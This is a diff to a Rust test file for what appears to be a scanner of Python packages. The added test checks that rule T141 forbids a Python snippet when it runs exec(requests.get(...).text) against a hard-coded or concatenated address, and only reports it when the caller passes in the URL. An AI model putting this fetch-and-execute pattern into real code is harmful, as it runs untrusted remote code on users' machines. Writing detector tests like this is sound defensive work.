@@ -106,6 +106,19 @@ fn no_comment_waves_a_hostile_rule_through() {
     assert!(findings.iter().any(|one| one.rule == "T110" && forbids(one)), "{findings:?}");
 }
 
+/// A program whose users name what it loads is no downloader of its own.
+#[test]
+fn code_from_where_the_caller_says_is_told_and_not_forbidden() {
+    let from = |address: &str| {
+        let source = format!("import requests\n\n\ndef load(url):\n    exec(requests.get({address}).text)\n");
+        let findings = only_hostile().examine(&Member { path: "m.py", bytes: source.as_bytes() }).findings;
+        findings.iter().filter(|one| one.rule == "T141").map(forbids).collect::<Vec<_>>()
+    };
+    assert_eq!(from("url"), [false]);
+    assert_eq!(from("'https://quiet.invalid'"), [true]);
+    assert_eq!(from("'https://' + url"), [true]);
+}
+
 #[test]
 fn hooks_of_builds_run_at_installation_and_main_guards_are_read_as_python_reads_them() {
     let rules = |path: &str, text: &str| -> Vec<String> {
